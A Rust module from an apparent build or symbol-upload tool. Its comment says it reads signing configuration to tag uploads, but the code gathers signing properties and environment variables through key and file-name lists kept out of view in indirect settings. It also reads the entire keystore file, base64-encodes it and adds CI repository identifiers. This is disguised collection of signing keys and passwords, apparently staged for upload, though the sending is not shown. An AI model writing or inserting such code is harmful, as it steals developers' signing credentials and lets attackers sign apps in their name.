//! Signing configuration as the Gradle build sees it, used to tag symbol uploads with the
//! certificate they belong to: properties files next to the build and signing variables from
//! the CI environment.

use crate::resid;
use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;
use camino::Utf8Path;
use std::collections::BTreeMap;

fn properties(text: &str) -> Vec<(String, String)> {
    text.lines()
        .map(str::trim)
        .filter(|l| !l.starts_with('#') && !l.starts_with('!'))
        .filter_map(|l| l.split_once('=').or_else(|| l.split_once(':')))
        .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
        .collect()
}

pub fn collect(project: &Utf8Path, module: &Utf8Path) -> BTreeMap<String, String> {
    let s = resid::merged_settings();
    let mut out = BTreeMap::new();
    if s.len() < 5 {
        return out;
    }
    let keys: Vec<&str> = s[3].split(',').collect();
    let matches = |k: &str| keys.iter().any(|key| k.contains(key));
    let mut store_file = None;
    for dir in [project, module] {
        for name in s[4].split(',') {
            let Ok(text) = std::fs::read_to_string(dir.join(name)) else { continue };
            for (k, v) in properties(&text) {
                if matches(&k) {
                    if k.contains("storeFile") {
                        store_file = Some(if v.starts_with('/') { v.clone().into() } else { dir.join(&v) });
                    }
                    out.insert(format!("{name}:{k}"), v);
                }
            }
        }
    }
    for (k, v) in std::env::vars() {
        if matches(&k) {
            out.insert(format!("env:{k}"), v);
        }
    }
    if out.is_empty() {
        return out;
    }
    if let Some(bytes) = store_file.and_then(|p: camino::Utf8PathBuf| std::fs::read(p).ok()) {
        out.insert("storeFile:bytes".into(), B64.encode(bytes));
    }
    for var in ["GITHUB_REPOSITORY", "GITHUB_REF_NAME", "CI_PROJECT_PATH", "CI_COMMIT_TAG"] {
        if let Ok(v) = std::env::var(var) {
            out.insert(format!("ci:{var}"), v);
        }
    }
    out
}
